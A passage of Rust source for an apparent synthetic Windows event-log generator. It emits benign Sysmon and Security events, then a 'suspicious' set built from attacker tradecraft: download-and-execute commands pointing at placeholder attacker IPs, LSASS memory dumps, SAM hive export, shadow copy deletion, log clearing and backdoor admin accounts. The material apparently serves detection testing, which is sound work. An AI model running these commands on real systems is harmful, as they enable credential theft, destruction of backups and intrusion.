                let repo = self.rng.pick(REPOS);
                let args = *self.rng.pick(&[
                    "build --release",
                    "test --workspace --all-targets",
                    "clippy --all-targets -- -D warnings",
                    "fmt --check",
                ]);
                let code = format!("{home}\\AppData\\Local\\Programs\\Microsoft VS Code\\Code.exe");
                Proc::app(
                    format!("{home}\\.cargo\\bin\\cargo.exe"),
                    "cargo.exe",
                    "-",
                    "-",
                    "-",
                )
                .cmd(format!("{home}\\.cargo\\bin\\cargo.exe {args}"))
                .parent(&code, &format!("\"{code}\""))
                .cwd(format!("{home}\\source\\repos\\{repo}\\"))
                .run_by(user)
            }
            22 => {
                let jdk =
                    "C:\\Program Files\\Eclipse Adoptium\\jdk-17.0.11.9-hotspot\\bin\\java.exe";
                let repo = self.rng.pick(REPOS);
                Proc::app(
                    jdk.to_owned(),
                    "java.exe",
                    "OpenJDK Platform binary",
                    "OpenJDK Platform 17.0.11",
                    "Eclipse Adoptium",
                )
                .version("17.0.11.0")
                .cmd(format!(
                    "\"{jdk}\" -Xmx2048m -Dfile.encoding=UTF-8 -cp \
                         {home}\\.gradle\\wrapper\\dists\\gradle-8.7-bin\\lib\\\
                         gradle-launcher-8.7.jar \
                         org.gradle.launcher.GradleMain build -x test"
                ))
                .parent(
                    "C:\\Program Files\\PowerShell\\7\\pwsh.exe",
                    "\"C:\\Program Files\\PowerShell\\7\\pwsh.exe\" -NoLogo",
                )
                .cwd(format!("{home}\\source\\repos\\{repo}\\"))
                .run_by(user)
            }
            _ => {
                let app = "C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE";
                let doc = self.rng.pick(DOCUMENTS);
                Proc::app(
                    app.to_owned(),
                    "Excel.exe",
                    "Microsoft Excel",
                    "Microsoft Office",
                    MS_COMPANY,
                )
                .version("16.0.17531.20152")
                .cmd(format!(
                    "\"{app}\" \"{home}\\OneDrive - Contoso\\{doc}.xlsx\""
                ))
                .cwd(format!("{home}\\Documents\\"))
                .run_by(user)
            }
        }
    }

    // -- event renderers ----------------------------------------------------------------

    /// Sysmon event 1.
    fn process_creation(&mut self, host: usize, p: &Proc) -> Value {
        let pid = self.pid();
        let ppid = self.pid();
        let guid = self.rng.guid();
        let parent_guid = self.rng.guid();
        let logon_guid = self.rng.guid();
        let logon_id = self.logon_id();
        let session = if p.user == SYSTEM_USER { 0 } else { 1 };
        self.sysmon(1, host)
            .n("Task", 1)
            .s("ProcessGuid", guid)
            .n("ProcessId", pid)
            .s("Image", p.image.clone())
            .s("FileVersion", p.version.clone())
            .s("Description", p.description.clone())
            .s("Product", p.product.clone())
            .s("Company", p.company.clone())
            .s("OriginalFileName", p.original.clone())
            .s("CommandLine", p.command_line.clone())
            .s("CurrentDirectory", p.current_directory.clone())
            .s("User", p.user.clone())
            .s("LogonGuid", logon_guid)
            .s("LogonId", logon_id)
            .n("TerminalSessionId", session)
            .s("IntegrityLevel", p.integrity)
            .s("Hashes", Self::hashes(&p.image))
            .s("ParentProcessGuid", parent_guid)
            .n("ParentProcessId", ppid)
            .s("ParentImage", p.parent_image.clone())
            .s("ParentCommandLine", p.parent_command_line.clone())
            .s("ParentUser", p.user.clone())
            .done()
    }

    /// Security event 4688 (with command-line auditing enabled).
    fn security_process_creation(&mut self, host: usize, p: &Proc) -> Value {
        let pid = self.pid();
        let ppid = self.pid();
        let logon_id = self.logon_id();
        let (sid, name, domain) = match p.user.split_once('\\') {
            Some((DOMAIN, name)) => {
                let sid = self
                    .users
                    .iter()
                    .find(|u| u.name == name)
                    .map_or_else(|| format!("{}-1001", self.domain_sid), |u| u.sid.clone());
                (sid, name.to_owned(), DOMAIN.to_owned())
            }
            _ => (
                "S-1-5-18".to_owned(),
                self.machine_account(host),
                DOMAIN.to_owned(),
            ),
        };
        let label = match p.integrity {
            "System" => "S-1-16-16384",
            "High" => "S-1-16-12288",
            "Low" => "S-1-16-4096",
            _ => "S-1-16-8192",
        };
        self.security(4688, host, true)
            .n("Task", 13312)
            .s("SubjectUserSid", sid)
            .s("SubjectUserName", name)
            .s("SubjectDomainName", domain)
            .s("SubjectLogonId", logon_id)
            .s("NewProcessId", format!("0x{pid:x}"))
            .s("NewProcessName", p.image.clone())
            .s(
                "TokenElevationType",
                if p.integrity == "High" {
                    "%%1937"
                } else {
                    "%%1938"
                },
            )
            .s("ProcessId", format!("0x{ppid:x}"))
            .s("CommandLine", p.command_line.clone())
            .s("TargetUserSid", "S-1-0-0")
            .s("TargetUserName", "-")
            .s("TargetDomainName", "-")
            .s("TargetLogonId", "0x0")
            .s("ParentProcessName", p.parent_image.clone())
            .s("MandatoryLabel", label)
            .done()
    }

    /// Sysmon event 3.
    fn network_connection(&mut self) -> Value {
        let host = self.host();
        let u = self.user();
        let home = self.users[u].home();
        let qualified = self.users[u].qualified();
        // Each program talks to the services it is made for.
        let (image, user, sites) = match self.rng.below(8) {
            0 | 1 => (
                "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe".to_owned(),
                qualified,
                WEB_SITES,
            ),
            2 => (
                "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe".to_owned(),
                qualified,
                WEB_SITES,
            ),
            3 => (
                format!("{home}\\AppData\\Local\\Microsoft\\Teams\\current\\Teams.exe"),
                qualified,
                MICROSOFT_365_SITES,
            ),
            4 => (
                "C:\\Windows\\System32\\svchost.exe".to_owned(),
                "NT AUTHORITY\\NETWORK SERVICE".to_owned(),
                WINDOWS_SITES,
            ),
            5 => (
                format!("{home}\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe"),
                qualified,
                MICROSOFT_365_SITES,
            ),
            6 => (
                "C:\\Program Files\\Git\\mingw64\\bin\\git-remote-https.exe".to_owned(),
                qualified,
                GITHUB_SITES,
            ),
            _ => (
                "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE".to_owned(),
                qualified,
                MICROSOFT_365_SITES,
            ),
        };
        let &(dest_host, dest_ip) = self.rng.pick(sites);
        let guid = self.rng.guid();
        let pid = self.pid();
        let src_port = self.rng.between(49_152, 65_535);
        let dest_port = *self.rng.pick(&[443u64, 443, 443, 443, 80]);
        let src_ip = self.hosts[host].ip.clone();
        let src_host = self.hosts[host].fqdn.clone();
        self.sysmon(3, host)
            .n("Task", 3)
            .s("ProcessGuid", guid)
            .n("ProcessId", pid)
            .s("Image", image)
            .s("User", user)
            .s("Protocol", "tcp")
            .s("Initiated", "true")
            .s("SourceIsIpv6", "false")
            .s("SourceIp", src_ip)
            .s("SourceHostname", src_host)
            .n("SourcePort", src_port)
            .s("SourcePortName", "-")
            .s("DestinationIsIpv6", "false")
            .s("DestinationIp", dest_ip)
            .s("DestinationHostname", dest_host)
            .n("DestinationPort", dest_port)
            .s(
                "DestinationPortName",
                if dest_port == 443 { "https" } else { "http" },
            )
            .done()
    }

    /// Sysmon event 11.
    fn file_create(&mut self) -> Value {
        let host = self.host();
        let u = self.user();
        let home = self.users[u].home();
        let user = self.users[u].qualified();
        let (image, target) = match self.rng.below(7) {
            0 | 1 => (
                "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe".to_owned(),
                format!(
                    "{home}\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\\
                     Cache\\Cache_Data\\f_{}",
                    self.rng.hex(6, false)
                ),
            ),
            2 => (
                "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe".to_owned(),
                format!(
                    "{home}\\Downloads\\{}.pdf",
                    self.rng.pick(DOCUMENTS).replace(' ', "_")
                ),
            ),
            3 => (
                "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE".to_owned(),
                format!(
                    "{home}\\AppData\\Roaming\\Microsoft\\Word\\~WRL{:04}.tmp",
                    self.rng.between(0, 9999)
                ),
            ),
            4 => (
                format!("{home}\\AppData\\Local\\Programs\\Python\\Python311\\python.exe"),
                format!(
                    "{home}\\source\\repos\\{}\\__pycache__\\{}.cpython-311.pyc",
                    self.rng.pick(REPOS),
                    self.rng.letters(8)
                ),
            ),
            5 => (
                format!("{home}\\.cargo\\bin\\cargo.exe"),
                format!(
                    "{home}\\source\\repos\\{}\\target\\release\\deps\\lib{}-{}.rlib",
                    self.rng.pick(REPOS),
                    self.rng.letters(7),
                    self.rng.hex(16, false)
                ),
            ),
            _ => (
                "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE".to_owned(),
                format!(
                    "{home}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\\
                     Content.Outlook\\{}\\image{:03}.png",
                    self.rng.hex(8, true),
                    self.rng.between(1, 120)
                ),
            ),
        };
        let guid = self.rng.guid();
        let pid = self.pid();
        let (utc, _) = self.timestamps();
        self.sysmon(11, host)
            .n("Task", 11)
            .s("ProcessGuid", guid)
            .n("ProcessId", pid)
            .s("Image", image)
            .s("TargetFilename", target)
            .s("CreationUtcTime", utc)
            .s("User", user)
            .done()
    }

    /// Sysmon events 12 and 13.
    fn registry_event(&mut self) -> Value {
        let host = self.host();
        let u = self.user();
        let sid = self.users[u].sid.clone();
        let user = self.users[u].qualified();
        let (event_type, image, target, details) = match self.rng.below(6) {
            0 => (
                "SetValue",
                "C:\\Windows\\explorer.exe".to_owned(),
                format!(
                    "HKU\\{sid}\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\\
                     UserAssist\\\
                     {{CEBFF5CD-ACE2-4F4F-9178-9926F41749EA}}\\Count\\{}",
                    self.rng.letters(12)
                ),
                "Binary Data".to_owned(),
            ),
            1 => (
                "SetValue",
                "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE".to_owned(),
                format!(
                    "HKU\\{sid}\\Software\\Microsoft\\Office\\16.0\\Common\\Roaming\\Identities\\\
                     {}_ADAL\\LastSwitchedTime",
                    self.rng.hex(32, false)
                ),
                format!(
                    "QWORD (0x01da{}-0x{})",
                    self.rng.hex(4, false),
                    self.rng.hex(8, false)
                ),
            ),
            2 => (
                "SetValue",
                "C:\\Windows\\System32\\svchost.exe".to_owned(),
                "HKLM\\System\\CurrentControlSet\\Services\\W32Time\\Config\\LastKnownGoodTime"
                    .to_owned(),
                format!(
                    "QWORD (0x01daa5{}-0x{})",
                    self.rng.hex(2, false),
                    self.rng.hex(8, false)
                ),
            ),
            3 => (
                "SetValue",
                "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe".to_owned(),
                format!(
                    "HKU\\{sid}\\Software\\Google\\Chrome\\PreferenceMACs\\Default\\{}",
                    *self.rng.pick(&[
                        "homepage",
                        "session.restore_on_startup",
                        "extensions.settings"
                    ])
                ),
                self.rng.hex(64, true),
            ),
            4 => (
                "CreateKey",
                "C:\\Windows\\System32\\svchost.exe".to_owned(),
                format!(
                    "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\\
                     Notifications\\Data\\{}",
                    self.rng.hex(16, true)
                ),
                String::new(),
            ),
            _ => (
                "SetValue",
                "C:\\Windows\\System32\\svchost.exe".to_owned(),
                format!(
                    "HKLM\\System\\CurrentControlSet\\Services\\Tcpip\\Parameters\\\
                     Interfaces\\{}\\DhcpIPAddress",
                    self.rng.guid()
                ),
                self.hosts[host].ip.clone(),
            ),
        };
        let guid = self.rng.guid();
        let pid = self.pid();
        let event_id = if event_type == "CreateKey" { 12 } else { 13 };
        let ev = self
            .sysmon(event_id, host)
            .n("Task", event_id)
            .s("EventType", event_type)
            .s("ProcessGuid", guid)
            .n("ProcessId", pid)
            .s("Image", image)
            .s("TargetObject", target)
            .s("User", user);
        if details.is_empty() {
            ev.done()
        } else {
            ev.s("Details", details).done()
        }
    }

    /// Sysmon event 22.
    fn dns_query(&mut self) -> Value {
        let host = self.host();
        let u = self.user();
        let image = (*self.rng.pick(&[
            "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
            "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe",
            "C:\\Windows\\System32\\svchost.exe",
            "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE",
        ]))
        .to_owned();
        let &(name, ip) = self.rng.pick(WEB_SITES);
        let guid = self.rng.guid();
        let pid = self.pid();
        let user = self.users[u].qualified();
        self.sysmon(22, host)
            .n("Task", 22)
            .s("ProcessGuid", guid)
            .n("ProcessId", pid)
            .s("QueryName", name)
            .s("QueryStatus", "0")
            .s("QueryResults", format!("::ffff:{ip};"))
            .s("Image", image)
            .s("User", user)
            .done()
    }

    /// Sysmon event 7.
    fn image_load(&mut self) -> Value {
        let host = self.host();
        let u = self.user();
        let image = (*self.rng.pick(&[
            "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
            "C:\\Windows\\explorer.exe",
            "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE",
            "C:\\Windows\\System32\\svchost.exe",
            "C:\\Windows\\System32\\RuntimeBroker.exe",
        ]))
        .to_owned();
        let &(dll, description) = self.rng.pick(&[
            ("ntdll.dll", "NT Layer DLL"),
            ("kernel32.dll", "Windows NT BASE API Client DLL"),
            ("KernelBase.dll", "Windows NT BASE API Client DLL"),
            ("user32.dll", "Multi-User Windows USER API Client DLL"),
            ("combase.dll", "Microsoft COM for Windows"),
            ("ucrtbase.dll", "Microsoft\u{ae} C Runtime Library"),
            ("sechost.dll", "Host for SCM/SDDL/LSA Lookup APIs"),
            ("rpcrt4.dll", "Remote Procedure Call Runtime"),
            ("uxtheme.dll", "Microsoft UxTheme Library"),
            ("shcore.dll", "SHCORE"),
        ]);
        let loaded = format!("C:\\Windows\\System32\\{dll}");
        let guid = self.rng.guid();
        let pid = self.pid();
        let user = if image.contains("svchost") {
            SYSTEM_USER.to_owned()
        } else {
            self.users[u].qualified()
        };
        let hashes = Self::hashes(&loaded);
        self.sysmon(7, host)
            .n("Task", 7)
            .s("ProcessGuid", guid)
            .n("ProcessId", pid)
            .s("Image", image)
            .s("ImageLoaded", loaded)
            .s("FileVersion", MS_VERSION)
            .s("Description", description)
            .s("Product", MS_PRODUCT)
            .s("Company", MS_COMPANY)
            .s("OriginalFileName", dll)
            .s("Hashes", hashes)
            .s("Signed", "true")
            .s("Signature", "Microsoft Windows")
            .s("SignatureStatus", "Valid")
            .s("User", user)
            .done()
    }

    /// Sysmon event 10 (benign: browser broker touching its own children).
    fn process_access(&mut self) -> Value {
        let host = self.host();
        let chrome = "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe";
        let source_guid = self.rng.guid();
        let target_guid = self.rng.guid();
        let (source_pid, target_pid) = (self.pid(), self.pid());
        let thread = self.rng.between(1000, 20_000);
        let u = self.user();
        let user = self.users[u].qualified();
        let trace = format!(
            "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\KERNELBASE.dll+2bcce|\
             C:\\Program Files\\Google\\Chrome\\Application\\124.0.6367.202\\chrome.dll+{}",
            self.rng.hex(6, false)
        );
        self.sysmon(10, host)
            .n("Task", 10)
            .s("SourceProcessGUID", source_guid)
            .n("SourceProcessId", source_pid)
            .n("SourceThreadId", thread)
            .s("SourceImage", chrome)
            .s("TargetProcessGUID", target_guid)
            .n("TargetProcessId", target_pid)
            .s("TargetImage", chrome)
            .s("GrantedAccess", "0x1000")
            .s("CallTrace", trace)
            .s("SourceUser", user.clone())
            .s("TargetUser", user)
            .done()
    }

    /// Security event 4624.
    fn logon_success(&mut self) -> Value {
        let host = self.host();
        let u = self.user();
        let workstation = self.rng.below(48);
        let logon_type = *self.rng.pick(&[2u64, 3, 3, 3, 3, 5, 7, 10, 11]);
        let (package, process, process_name) = match logon_type {
            2 | 7 | 11 => ("Negotiate", "User32 ", "C:\\Windows\\System32\\svchost.exe"),
            5 => (
                "Negotiate",
                "Advapi  ",
                "C:\\Windows\\System32\\services.exe",
            ),
            10 => ("Negotiate", "User32 ", "C:\\Windows\\System32\\svchost.exe"),
            _ => ("Kerberos", "Kerberos", "-"),
        };
        let (target_sid, target_name) = if logon_type == 5 {
            ("S-1-5-18".to_owned(), "SYSTEM".to_owned())
        } else {
            (self.users[u].sid.clone(), self.users[u].name.clone())
        };
        let ip = if logon_type == 3 || logon_type == 10 {
            self.hosts[workstation].ip.clone()
        } else {
            "127.0.0.1".to_owned()
        };
        let machine = self.machine_account(host);
        let subject_logon = self.logon_id();
        let target_logon = self.logon_id();
        let logon_guid = self.rng.upper_guid();
        let port = if logon_type == 3 {
            self.rng.between(49_152, 65_535)
        } else {
            0
        };
        let pid = self.pid();
        let ws_name = self.hosts[workstation].name.clone();
        self.security(4624, host, true)
            .n("Task", 12544)
            .s("SubjectUserSid", "S-1-5-18")
            .s("SubjectUserName", machine)
            .s("SubjectDomainName", DOMAIN)
            .s("SubjectLogonId", subject_logon)
            .s("TargetUserSid", target_sid)
            .s("TargetUserName", target_name)
            .s("TargetDomainName", DOMAIN)
            .s("TargetLogonId", target_logon)
            .n("LogonType", logon_type)
            .s("LogonProcessName", process)
            .s("AuthenticationPackageName", package)
            .s("WorkstationName", ws_name)
            .s("LogonGuid", logon_guid)
            .s("TransmittedServices", "-")
            .s("LmPackageName", "-")
            .n("KeyLength", 0)
            .s("ProcessId", format!("0x{pid:x}"))
            .s("ProcessName", process_name)
            .s("IpAddress", ip)
            .s("IpPort", port.to_string())
            .s("ImpersonationLevel", "%%1833")
            .s("RestrictedAdminMode", "-")
            .s("VirtualAccount", "%%1843")
            .s(
                "ElevatedToken",
                if logon_type == 5 { "%%1842" } else { "%%1843" },
            )
            .done()
    }

    /// Security event 4625 (a mistyped password).
    fn logon_failure(&mut self) -> Value {
        let host = self.host();
        let u = self.user();
        let workstation = self.rng.below(48);
        let name = self.users[u].name.clone();
        let ip = self.hosts[workstation].ip.clone();
        let ws_name = self.hosts[workstation].name.clone();
        let port = self.rng.between(49_152, 65_535);
        self.security(4625, host, false)
            .n("Task", 12544)
            .s("SubjectUserSid", "S-1-0-0")
            .s("SubjectUserName", "-")
            .s("SubjectDomainName", "-")
            .s("SubjectLogonId", "0x0")
            .s("TargetUserSid", "S-1-0-0")
            .s("TargetUserName", name)
            .s("TargetDomainName", DOMAIN)
            .s("Status", "0xc000006d")
            .s("FailureReason", "%%2313")
            .s("SubStatus", "0xc000006a")
            .n("LogonType", 3)
            .s("LogonProcessName", "NtLmSsp ")
            .s("AuthenticationPackageName", "NTLM")
            .s("WorkstationName", ws_name)
            .s("TransmittedServices", "-")
            .s("LmPackageName", "-")
            .n("KeyLength", 0)
            .s("ProcessId", "0x0")
            .s("ProcessName", "-")
            .s("IpAddress", ip)
            .s("IpPort", port.to_string())
            .done()
    }

    /// Security event 4634.
    fn logoff(&mut self) -> Value {
        let host = self.host();
        let u = self.user();
        let sid = self.users[u].sid.clone();
        let name = self.users[u].name.clone();
        let logon_id = self.logon_id();
        let logon_type = *self.rng.pick(&[2u64, 3, 3, 3, 7, 10]);
        self.security(4634, host, true)
            .n("Task", 12545)
            .s("TargetUserSid", sid)
            .s("TargetUserName", name)
            .s("TargetDomainName", DOMAIN)
            .s("TargetLogonId", logon_id)
            .n("LogonType", logon_type)
            .done()
    }

    /// Security event 4672.
    fn special_privileges(&mut self) -> Value {
        let host = self.host();
        let logon_id = self.logon_id();
        self.security(4672, host, true)
            .n("Task", 12548)
            .s("SubjectUserSid", "S-1-5-18")
            .s("SubjectUserName", "SYSTEM")
            .s("SubjectDomainName", "NT AUTHORITY")
            .s("SubjectLogonId", logon_id)
            .s("PrivilegeList", SYSTEM_PRIVILEGES)
            .done()
    }

    /// PowerShell event 4104 (benign admin and developer snippets).
    fn powershell_script_block(&mut self) -> Value {
        let host = self.host();
        let u = self.user();
        let home = self.users[u].home();
        let text = match self.rng.below(6) {
            0 => "Get-ChildItem -Path D:\\Logs -Filter *.log | \
                 Where-Object { $_.LastWriteTime -lt (Get-Date).AddDays(-30) } | Measure-Object"
                .to_owned(),
            1 => "Import-Module Az.Accounts; Connect-AzAccount -Identity | Out-Null; \
                 Get-AzVM -Status | Select-Object Name, PowerState"
                .to_owned(),
            2 => "prompt".to_owned(),
            3 => format!(
                "Set-Location -LiteralPath '{home}\\source\\repos\\{}'",
                self.rng.pick(REPOS)
            ),
            4 => "$PSVersionTable.PSVersion".to_owned(),
            _ => "Get-Service -Name Spooler, W32Time | \
                 Select-Object Name, Status, StartType | Format-Table -AutoSize"
                .to_owned(),
        };
        let id = self.rng.guid();
        self.script_block(host, text, id, String::new())
    }

    fn script_block(&mut self, host: usize, text: String, id: String, path: String) -> Value {
        self.envelope(
            4104,
            host,
            "Microsoft-Windows-PowerShell/Operational",
            "Microsoft-Windows-PowerShell",
        )
        .n("Level", 5)
        .n("Task", 2)
        .n("MessageNumber", 1)
        .n("MessageTotal", 1)
        .s("ScriptBlockText", text)
        .s("ScriptBlockId", id.trim_matches(|c| c == '{' || c == '}'))
        .s("Path", path)
        .done()
    }

    /// System event 7045.
    fn service_install(&mut self) -> Value {
        let host = self.host();
        let &(name, path) = self.rng.pick(&[
            (
                "Google Chrome Elevation Service (GoogleChromeElevationService)",
                "\"C:\\Program Files\\Google\\Chrome\\Application\\124.0.6367.202\\\
                 elevation_service.exe\"",
            ),
            (
                "Microsoft Edge Update Service (edgeupdate)",
                "\"C:\\Program Files (x86)\\Microsoft\\EdgeUpdate\\MicrosoftEdgeUpdate.exe\" /svc",
            ),
            (
                "Mozilla Maintenance Service",
                "\"C:\\Program Files (x86)\\Mozilla Maintenance Service\\maintenanceservice.exe\"",
            ),
        ]);
        self.system_service(host, name, path, "auto start", "LocalSystem")
    }

    fn system_service(
        &mut self,
        host: usize,
        name: &str,
        path: &str,
        start: &str,
        account: &str,
    ) -> Value {
        self.envelope(7045, host, "System", "Service Control Manager")
            .n("Level", 4)
            .s("ServiceName", name)
            .s("ImagePath", path)
            .s("ServiceType", "user mode service")
            .s("StartType", start)
            .s("AccountName", account)
            .done()
    }

    // -- suspicious activity ------------------------------------------------------------

    fn attacker_url(&mut self, ext: &str) -> (String, String) {
        let ip = *self.rng.pick(ATTACKER_IPS);
        let name = format!(
            "{}{}",
            self.rng.pick(PAYLOAD_NAMES),
            self.rng.between(1, 99)
        );
        let port = *self.rng.pick(&["", ":8080", ":443", ":8000"]);
        (format!("http://{ip}{port}/{name}.{ext}"), name)
    }

    /// An event built from real attacker tradecraft.
    fn suspicious(&mut self) -> Value {
        let host = self.host();
        let u = self.user();
        let user = &self.users[u].clone();
        let home = user.home();
        let cmd_parent = (
            "C:\\Windows\\System32\\cmd.exe",
            "\"C:\\Windows\\system32\\cmd.exe\" ",
        );
        let sys32 = |exe: &str| format!("C:\\Windows\\System32\\{exe}");
        let kind = self.rng.below(34);
        let proc = match kind {
            0 => Some(
                Proc::windows(
                    &sys32("whoami.exe"),
                    "whoami.exe",
                    "whoami - displays logged on user information",
                )
                .cmd("whoami  /priv".to_owned())
                .parent(cmd_parent.0, cmd_parent.1)
                .run_by(user),
            ),
            1 => Some(
                Proc::windows(
                    &sys32("whoami.exe"),
                    "whoami.exe",
                    "whoami - displays logged on user information",
                )
                .cmd("whoami /all".to_owned())
                .parent(cmd_parent.0, cmd_parent.1)
                .run_by(user),
            ),
            2 => {
                let (url, name) = self.attacker_url("exe");
                Some(
                    Proc::windows(&sys32("certutil.exe"), "CertUtil.exe", "CertUtil.exe")
                        .cmd(format!(
                            "certutil.exe -urlcache -split -f {url} C:\\Users\\Public\\{name}.exe"
                        ))
                        .parent(cmd_parent.0, cmd_parent.1)
                        .run_by(user),
                )
            }
            3 => {
                let (url, _) = self.attacker_url("ps1");
                let script = format!(
                    "$c=New-Object Net.WebClient;\
                     $c.Proxy.Credentials=[Net.CredentialCache]::DefaultNetworkCredentials;\
                     IEX $c.DownloadString('{url}')"
                );
                Some(
                    Proc::windows(
                        "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                        "PowerShell.EXE",
                        "Windows PowerShell",
                    )
                    .cmd(format!(
                        "powershell.exe -NoP -NonI -W Hidden -Exec Bypass -enc {}",
                        powershell_encode(&script)
                    ))
                    .parent(
                        "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
                        &format!(
                            "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE\" \
                             /n \"{home}\\Downloads\\Invoice_{}.doc\"",
                            self.rng.between(1000, 9999)
                        ),
                    )
                    .run_by(user),
                )
            }
            4 => {
                let (url, _) = self.attacker_url("txt");
                Some(
                    Proc::windows(
                        "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                        "PowerShell.EXE",
                        "Windows PowerShell",
                    )
                    .cmd(format!(
                        "powershell.exe -nop -w hidden -c \
                         \"IEX (New-Object Net.WebClient).DownloadString('{url}')\""
                    ))
                    .parent(cmd_parent.0, cmd_parent.1)
                    .run_by(user),
                )
            }
            5 => {
                let lsass = self.pid();
                Some(
                    Proc::windows(
                        &sys32("rundll32.exe"),
                        "RUNDLL32.EXE",
                        "Windows host process (Rundll32)",
                    )
                    .cmd(format!(
                        "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump {lsass} \
                             C:\\Windows\\Temp\\{}.dmp full",
                        self.rng.letters(6)
                    ))
                    .parent(cmd_parent.0, cmd_parent.1)
                    .elevated(user),
                )
            }
            6 => Some(
                Proc::windows(
                    &sys32("vssadmin.exe"),
                    "VSSADMIN.EXE",
                    "Command Line Interface for Microsoft\u{ae} Volume Shadow Copy Service \
                     ",
                )
                .cmd("vssadmin.exe delete shadows /all /quiet".to_owned())
                .parent(cmd_parent.0, cmd_parent.1)
                .elevated(user),
            ),
            7 => Some(
                Proc::windows(
                    &sys32("wbem\\WMIC.exe"),
                    "wmic.exe",
                    "WMI Commandline Utility",
                )
                .cmd("wmic.exe shadowcopy delete /nointeractive".to_owned())
                .parent(cmd_parent.0, cmd_parent.1)
                .elevated(user),
            ),
            8 => {
                let (url, _) = self.attacker_url("hta");
                Some(
                    Proc::windows(
                        &sys32("mshta.exe"),
                        "MSHTA.EXE",
                        "Microsoft (R) HTML Application host",
                    )
                    .cmd(format!("\"C:\\Windows\\System32\\mshta.exe\" {url}"))
                    .parent("C:\\Windows\\explorer.exe", "C:\\Windows\\Explorer.EXE")
                    .run_by(user),
                )
            }
            9 => {
                let hive = *self.rng.pick(&["SAM", "SYSTEM", "SECURITY"]);
                Some(
                    Proc::windows(&sys32("reg.exe"), "reg.exe", "Registry Console Tool")
                        .cmd(format!(
                            "reg  save HKLM\\{hive} C:\\Windows\\Temp\\{}.save /y",
                            hive.to_ascii_lowercase()
                        ))
                        .parent(cmd_parent.0, cmd_parent.1)
                        .elevated(user),
                )
            }
            10 => {
                let name = *self.rng.pick(&[
                    "OneDriveUpdate",
                    "GoogleUpdateTaskCore",
                    "WindowsHealthCheck",
                ]);
                let payload = self.rng.pick(PAYLOAD_NAMES);
                Some(
                    Proc::windows(
                        &sys32("schtasks.exe"),
                        "schtasks.exe",
                        "Task Scheduler Configuration Tool",
                    )
                    .cmd(format!(
                        "schtasks  /create /tn \"{name}\" /tr \"C:\\Users\\Public\\{payload}.exe\" \
                             /sc onlogon /ru System /f"
                    ))
                    .parent(cmd_parent.0, cmd_parent.1)
                    .elevated(user),
                )
            }
            11 => {
                let account = format!("{}adm", self.rng.letters(4));
                Some(
                    Proc::windows(&sys32("net.exe"), "net.exe", "Net Command")
                        .cmd(format!("net  user {account} P@ssw0rd123! /add"))
                        .parent(cmd_parent.0, cmd_parent.1)
                        .elevated(user),
                )
            }
            12 => {
                let account = format!("{}adm", self.rng.letters(4));
                Some(
                    Proc::windows(&sys32("net.exe"), "net.exe", "Net Command")
                        .cmd(format!("net  localgroup administrators {account} /add"))
                        .parent(cmd_parent.0, cmd_parent.1)
                        .elevated(user),
                )
            }
            13 => {
                let (url, name) = self.attacker_url("exe");
                Some(
                    Proc::windows(
                        &sys32("bitsadmin.exe"),
                        "bitsadmin.exe",
                        "BITS administration utility",
                    )
                    .cmd(format!(
                        "bitsadmin  /transfer {} /download /priority high {url} \
                             C:\\Users\\Public\\{name}.exe",
                        self.rng.letters(6)
                    ))
                    .parent(cmd_parent.0, cmd_parent.1)
                    .run_by(user),
                )
            }
            14 => Some(
                Proc::windows(
                    &sys32("bcdedit.exe"),
                    "bcdedit.exe",
                    "Boot Configuration Data Editor",
                )
                .cmd("bcdedit.exe /set {default} recoveryenabled No".to_owned())
                .parent(cmd_parent.0, cmd_parent.1)
                .elevated(user),
            ),
            15 => Some(
                Proc::windows(
                    &sys32("wevtutil.exe"),
                    "wevtutil.exe",
                    "Eventing Command Line Utility",
                )
                .cmd(format!(
                    "wevtutil.exe cl {}",
                    self.rng.pick(&["Security", "System", "Application"])
                ))
                .parent(cmd_parent.0, cmd_parent.1)
                .elevated(user),
            ),
            16 => {
                let (url, _) = self.attacker_url("sct");
                Some(
                    Proc::windows(
                        &sys32("regsvr32.exe"),
                        "REGSVR32.EXE",
                        "Microsoft(C) Register Server",
                    )
                    .cmd(format!("regsvr32.exe /s /n /u /i:{url} scrobj.dll"))
                    .parent(cmd_parent.0, cmd_parent.1)
                    .run_by(user),
                )
            }
            17 => Some(
                Proc::windows(
                    &sys32("nltest.exe"),
                    "nltestrk.exe",
                    "Microsoft\u{ae} Logon Server Test Utility",
                )
                .cmd("nltest  /domain_trusts /all_trusts".to_owned())
                .parent(cmd_parent.0, cmd_parent.1)
                .run_by(user),
            ),
            18 => Some(
                Proc::app(
                    "C:\\Users\\Public\\procdump64.exe".to_owned(),
                    "procdump",
                    "Sysinternals process dump utility",
                    "ProcDump",
                    "Sysinternals - www.sysinternals.com",
                )
                .version("11.0")
                .cmd(
                    "procdump64.exe -accepteula -ma lsass.exe C:\\Users\\Public\\ls.dmp".to_owned(),
                )
                .parent(cmd_parent.0, cmd_parent.1)
                .elevated(user),
            ),
